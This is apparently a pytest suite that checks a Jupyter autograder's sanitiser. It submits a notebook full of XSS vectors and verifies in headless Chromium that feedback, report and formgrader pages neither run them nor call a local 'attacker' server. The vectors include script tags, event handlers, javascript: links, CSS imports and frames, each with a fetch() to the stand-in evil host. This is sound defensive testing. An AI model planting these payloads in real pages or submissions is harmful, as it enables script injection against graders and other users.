"""Pages people open show a hostile submission without running it or fetching anything.

One student of the catalog's throw-away course (:mod:`autograde_catalog`) hands in an
honest answer plus :data:`VECTORS`: script in Markdown, event handlers, ``javascript:`` links,
remote images, CSS imports, frames, a meta refresh, HTML / JavaScript / SVG / Markdown outputs
published from the kernel, raw cells, a tag with quotes and angle brackets, widget state. The
class is graded twice, by the parallel ``classgrade`` (then the class report and its feedback)
and by ``nbgrader autograde`` + ``nbgrader generate_feedback`` in a copy; the autograded
notebooks are also rendered the way formgrader renders its submission view. Every page is then
opened in headless Chromium while a local "attacker" server logs requests: no payload may run
(each one sets ``data-pwned`` on the body or the title) and no request may arrive, while the
honest part (text, typeset maths, a PNG output, printed text) is still shown.
"""

import html
import http.server
import os
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile
import threading

import autograde_catalog as catalog
import nbformat
import pytest

pytestmark = pytest.mark.xdist_group("autograde")

BIN = pathlib.Path(sys.executable).parent
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
STUDENT = "mallory"
HONEST_TEXT = "My honest answer: the state carries the past."
PRINTED = "printed forty-two 42"
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAQAAAAECAIAAAAmkwkpAAAAEElEQVR4nGM4IScHRwzEcQCxYxBBO0tjggAA"
       "AABJRU5ErkJggg==")  # a 4 x 4 red PNG


class Server:
    """An HTTP server on 127.0.0.1 that logs every request path (and serves ``root``)."""

    def __init__(self, root=None):
        self.paths = []
        log = self.paths

        class Handler(http.server.SimpleHTTPRequestHandler):
            def __init__(self, *args, **kwargs):
                super().__init__(*args, directory=str(root or tempfile.gettempdir()), **kwargs)

            def do_GET(self):  # noqa: N802 - http.server's name
                log.append(self.path)
                if root is None:
                    self.send_response(204)
                    self.end_headers()
                    return
                super().do_GET()

            def do_POST(self):  # noqa: N802
                log.append("POST " + self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


def vectors(evil):
    """name -> (cell kind, source): each payload marks the page or calls ``evil``."""
    mark = ("document.body.dataset.pwned='{0}';document.title='pwned {0}';"
            "fetch('" + evil + "/x-{0}')")
    js = {name: mark.format(name) for name in (
        "md-script", "md-onerror", "md-svg", "md-link", "md-details", "md-mathhref",
        "out-html", "out-js", "out-svg", "out-md", "raw-script", "raw-html-script", "tag",
        "out-png-meta", "md-iframe-srcdoc")}
    md = {
        "md-script": f"<script>{js['md-script']}</script>",
        "md-onerror": f'<img src="{evil}/x-md-onerror-src" onerror="{js["md-onerror"]}">',
        "md-svg": f'<svg onload="{js["md-svg"]}"><image href="{evil}/x-md-svg-image"/></svg>',
        "md-link": f"[click me](javascript:{js['md-link']}) and <a href=\"jav&#x09;ascript:"
                   f"{js['md-link']}\">this</a>",
        "md-image": f"![remote]({evil}/x-md-image.png)",
        "md-css": f"<style>@import url({evil}/x-md-css-import);</style>"
                  f'<div style="background:url({evil}/x-md-style-url)">styled</div>',
        "md-link-tag": f'<link rel="stylesheet" href="{evil}/x-md-link-tag">',
        "md-iframe": f'<iframe src="{evil}/x-md-iframe"></iframe>'
                     f'<iframe srcdoc="<script>parent.{js["md-iframe-srcdoc"]}</script>">'
                     "</iframe>",
        "md-refresh": f'<meta http-equiv="refresh" content="0;url={evil}/x-md-refresh">',
        "md-details": f'<details open ontoggle="{js["md-details"]}">x</details>',
        "md-object": f'<object data="{evil}/x-md-object"></object>'
                     f'<embed src="{evil}/x-md-embed">',
        "md-base": f'<base href="{evil}/x-md-base/">',
        "md-form": f'<form action="{evil}/x-md-form"><button>go</button></form>',
        "md-mathhref": f"$\\href{{javascript:{js['md-mathhref']}}}{{x}}$ and "
                       f"$\\style{{background:url({evil}/x-md-math-style)}}{{y}}$",
    }
    publish = {
        "out-html": {"text/html": f"<script>{js['out-html']}</script>"
                                  f'<img src="{evil}/x-out-html-img">'},
        "out-js": {"application/javascript": js["out-js"]},
        "out-svg": {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="'
                                     f'{js["out-svg"]}"><image href="{evil}/x-out-svg"/></svg>'},
        "out-md": {"text/markdown": f'<img src="{evil}/x-out-md" onerror="{js["out-md"]}">'},
        "out-latex": {"text/latex": f"$\\href{{{evil}/x-out-latex}}{{x}}$"},
        "out-widget": {"application/vnd.jupyter.widget-view+json":
                       {"model_id": "abc", "version_major": 2, "version_minor": 0}},
        "out-pdf": {"application/pdf": "JVBERi0="},
    }
    code = ["from IPython.display import publish_display_data"]
    code += [f"publish_display_data({data!r})" for data in publish.values()]
    png_meta = {"image/png": {"width": f'1" onload="{js["out-png-meta"]}'}}
    code.append(f"publish_display_data({{'image/png': {PNG!r}, 'text/plain': 'x'}}, "
                f"metadata={png_meta!r})")
    return {"markdown": md, "code": "\n".join(code), "publish": publish,
            "raw": {"raw-script": f"<script>{js['raw-script']}</script>",
                    "raw-html-script": f"<script>{js['raw-html-script']}</script>"},
            "tag": f'"><script>{js["tag"]}</script><x a=\'', "all": sorted(js)}


def hostile_submission(release, evil):
    """An honest answer with every vector of :func:`vectors` added as student cells."""
    v = vectors(evil)
    nb = catalog.answered(release)
    md, code, raw = nbformat.v4.new_markdown_cell, nbformat.v4.new_code_cell, \
        nbformat.v4.new_raw_cell
    honest = [md(f"{HONEST_TEXT} The hidden state $a^{{\\langle 1 \\rangle}}$ of step "
                 "$t = 1$:\n\n$$a^{\\langle t \\rangle} = \\tanh(W_{aa} a^{\\langle t-1 \\rangle}"
                 " + b_a)$$"),
              code(f"print({PRINTED!r})\nfrom IPython.display import Image, display\nimport "
                   f"base64\ndisplay(Image(data=base64.b64decode({PNG!r})))")]
    attack = [md(f"### {name}\n\n{source}") for name, source in v["markdown"].items()]
    attack.append(code(v["code"]))
    attack.append(raw(v["raw"]["raw-script"]))
    attack.append(raw(v["raw"]["raw-html-script"], metadata={"raw_mimetype": "text/html"}))
    tagged = md("tagged cell")
    tagged.metadata["tags"] = [v["tag"]]
    attack.append(tagged)
    nb.cells = nb.cells[:1] + honest + nb.cells[1:] + attack
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0}}
    nb.metadata["title"] = f"<script>{v['all'][0]}</script>"
    return nb, len(v["markdown"]) + len(v["publish"]) + 1 + len(v["raw"]) + 1 + 2


def env():
    return dict(os.environ, PATH=f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}")


def formgrader_page(course, out):
    """The autograded notebook rendered as formgrader's submission view renders it: its
    exporter built from the course's configuration over formgrader's own settings."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    config = Config()  # FormgradeExtension.build_extra_config, then the course's file
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    loader = {"c": config, "get_config": lambda: config}
    exec(compile((course / "nbgrader_config.py").read_text(), "nbgrader_config.py", "exec"),
         loader)
    resources = {"assignment_id": catalog.ASSIGNMENT, "notebook_id": catalog.NOTEBOOK,
                 "submission_id": "abc", "index": 0, "total": 1, "base_url": "",
                 "student": STUDENT, "last_name": None, "first_name": None,
                 "notebook_path": "autograded"}
    notebook = course / "autograded" / STUDENT / catalog.ASSIGNMENT / f"{catalog.NOTEBOOK}.ipynb"
    html, _ = HTMLExporter(config=config).from_filename(str(notebook), resources=resources)
    out.write_text(html)
    return out


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    if not os.path.exists(CHROMIUM):
        pytest.skip("headless Chromium (make system-deps) is not installed")
    base = tmp_path_factory.mktemp("safe")
    evil = Server()
    course, sequential = base / "course", base / "sequential"
    catalog.make_course(course, timeout=10)
    nb, count = hostile_submission(catalog.release_notebook(course), evil.url)
    catalog.submit(course, STUDENT, {f"{catalog.NOTEBOOK}.ipynb": nb})
    catalog.submit(course, "honest", catalog.honest({"release": catalog.release_notebook(course)}))
    shutil.copytree(course, sequential)
    run = {"cwd": None, "env": env(), "stdout": subprocess.PIPE, "stderr": subprocess.STDOUT,
           "text": True}
    parallel = subprocess.Popen([sys.executable, "-m", "rnnlib.autograde.classgrade",
                                 catalog.ASSIGNMENT, "--jobs", "2", "--no-progress"],
                                **dict(run, cwd=course))
    stock = subprocess.Popen([str(BIN / "nbgrader"), "autograde", catalog.ASSIGNMENT],
                             **dict(run, cwd=sequential))
    out = [p.communicate(timeout=150)[0] for p in (parallel, stock)]
    assert parallel.returncode == 0 and stock.returncode == 0, out
    for cmd, cwd in (([sys.executable, "-m", "rnnlib.autograde.report", catalog.ASSIGNMENT],
                      course),
                     ([str(BIN / "nbgrader"), "generate_feedback", catalog.ASSIGNMENT],
                      sequential)):
        done = subprocess.run(cmd, cwd=cwd, env=env(), capture_output=True, text=True,
                              timeout=120)
        assert done.returncode == 0, done.stdout + done.stderr
    served = base / "served"
    static = served / "formgrader" / "static"
    from nbgrader.server_extensions.formgrader import handlers
    shutil.copytree(handlers.static_path, static, ignore=shutil.ignore_patterns("*.map"))
    feedback = f"feedback/{STUDENT}/{catalog.ASSIGNMENT}/{catalog.NOTEBOOK}.html"
    found = {"feedback (classgrade + report)": course / feedback,
             "feedback (nbgrader generate_feedback)": sequential / feedback,
             "class report": course / "reports" / catalog.ASSIGNMENT / "report.html",
             "formgrader (classgrade)": formgrader_page(course, served / "fg-parallel.html"),
             "formgrader (nbgrader autograde)": formgrader_page(sequential,
                                                                served / "fg-stock.html")}
    site = Server(served)
    yield {"pages": found, "evil": evil, "site": site, "vectors": count, "course": course,
           "sequential": sequential}
    evil.close()
    site.close()


def chromium_dom(url):
    """The page's DOM after its scripts ran (3 s of virtual time), from headless Chromium."""
    profile = tempfile.mkdtemp()
    try:
        done = subprocess.run(
            [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu",
             "--disable-background-networking", "--disable-component-update", "--disable-sync",
             "--no-first-run", f"--user-data-dir={profile}", "--virtual-time-budget=3000",
             "--enable-logging=stderr", "--v=0", "--dump-dom", url],
            capture_output=True, text=True, timeout=60)
    finally:
        shutil.rmtree(profile, ignore_errors=True)
    console = [line for line in done.stderr.splitlines() if ":CONSOLE" in line]
    return done.stdout, console


def url_of(pages, name):
    path = pages["pages"][name]
    if name.startswith("formgrader"):
        return f"{pages['site'].url}/{path.name}"
    return path.as_uri()


@pytest.fixture(scope="module")
def doms(pages):
    """name -> (DOM, requests the attacker's server saw, other requests to the page's server)
    for each page, opened one at a time."""
    out = {}
    for name in pages["pages"]:
        del pages["evil"].paths[:], pages["site"].paths[:]
        dom, console = chromium_dom(url_of(pages, name))
        out[name] = (dom, list(pages["evil"].paths), list(pages["site"].paths), console)
    return out


def test_the_hostile_notebook_still_gets_its_grade(pages):
    """Sanitising runs after the grading: the honest answer keeps its five points."""
    from rnnlib.autograde.gradebook import dump

    for course in (pages["course"], pages["sequential"]):
        rows = dump(f"sqlite:///{course}/gradebook.db", catalog.ASSIGNMENT, "tiny")
        got = sum((manual if manual is not None else auto or 0.0)
                  for sid, _, cell, auto, manual, _ in rows
                  if sid == STUDENT and cell in catalog.POINTS)
        assert got == 5.0, rows


def test_both_graders_write_a_sanitised_notebook(pages):
    """autograded/ (which formgrader and generate_feedback read) is already safe: the same
    preprocessor list runs in classgrade and in nbgrader autograde, the sanitiser last."""
    from rnnlib.autograde.record import KEY
    from rnnlib.autograde.sanitize import SAFE_MIME

    for course in (pages["course"], pages["sequential"]):
        path = course / "autograded" / STUDENT / catalog.ASSIGNMENT / f"{catalog.NOTEBOOK}.ipynb"
        nb = nbformat.read(path, 4)
        assert set(nb.metadata) <= {"kernelspec", "language_info", "nbgrader", KEY}
        assert nb.metadata.get(KEY), "the grader's record (for the report) is kept"
        mimes = {m for c in nb.cells for o in c.get("outputs", []) for m in o.get("data", {})}
        assert mimes == set(SAFE_MIME) - {"image/jpeg", "image/gif"}, mimes
        assert {c.cell_type for c in nb.cells} == {"markdown", "code"}  # raw cells shown as text
        for cell in nb.cells:
            assert set(cell.metadata) <= {"nbgrader", "tags"}
            if cell.cell_type == "markdown":
                assert "<script" not in cell.source.lower() and "onerror=" not in cell.source
                assert "\n" not in cell.source


@pytest.mark.parametrize("name", ["feedback (classgrade + report)",
                                  "feedback (nbgrader generate_feedback)", "class report",
                                  "formgrader (classgrade)", "formgrader (nbgrader autograde)"])
def test_no_payload_runs_and_no_request_leaves(pages, doms, name):
    dom, evil, site, _ = doms[name]
    assert "</body>" in dom, dom[-2000:]
    assert "data-pwned" not in dom and "pwned" not in dom.split("</title>")[0], name
    assert evil == [], evil
    # The formgrader page may load formgrader's own files and API, nothing else.
    assert [p for p in site if not p.startswith(("/fg-", "/formgrader/", "/favicon.ico"))] \
        == []
    # Nothing left to click or to load later: no script URL, no CSS URL (maths included).
    assert not re.search(r"""href=["']?\s*(java|vb)script:""", dom, re.I), name
    assert not re.search(r"""style=["'][^"']*url\(""", dom, re.I), name


@pytest.mark.parametrize("name", ["feedback (classgrade + report)",
                                  "feedback (nbgrader generate_feedback)",
                                  "formgrader (classgrade)", "formgrader (nbgrader autograde)"])
def test_honest_content_and_typeset_maths_are_shown(doms, name):
    dom = doms[name][0]
    assert HONEST_TEXT in dom
    assert PRINTED in dom
    assert f'src="data:image/png;base64,{PNG}"' in dom
    assert dom.count("<mjx-container") >= 3, "maths was not typeset"  # 2 inline + 1 display
    assert "&lt;script&gt;" in dom  # the student's script is shown as text, not run
    # formgrader's own script (MathJax 2 API) sets the page up without an error
    assert not [line for line in doms[name][3] if "Uncaught" in line or "rror" in line], \
        doms[name][3]


def policy(text):
    """The page's Content-Security-Policy meta element's content, or None."""
    head = text.split("<body", 1)[0]
    for tag in re.findall(r"<meta[^>]*>", head):
        if re.search(r"http-equiv=.Content-Security-Policy", tag):
            return html.unescape(re.search(r'content="([^"]*)"', tag).group(1))
    return None


def test_pages_carry_a_content_security_policy(pages):
    found = {name: policy(path.read_text()) for name, path in pages["pages"].items()}
    assert all(found.values()), found
    for name, text in found.items():
        rules = dict((r.split() + [""])[:2] for r in text.split("; "))
        if name.startswith("formgrader"):
            assert rules["default-src"] == "'self'" and rules["connect-src"] == "'self'"
        else:  # feedback and report: no script but MathJax's, by hash; nothing fetched
            assert rules["default-src"] == "'none'" and "unsafe" not in text.split("style")[0]
            assert rules["img-src"] == "data:" and rules["connect-src"] == "'none'"
    for name, path in pages["pages"].items():
        head = re.sub(r"<script>.*?</script>", "", path.read_text().split("<body", 1)[0],
                      flags=re.S)  # (MathJax's code names URLs it never loads here)
        assert not re.search(r"""(src|href)=["']?(https?:)?//""", head), name
        assert "cdnjs" not in path.read_text(), name
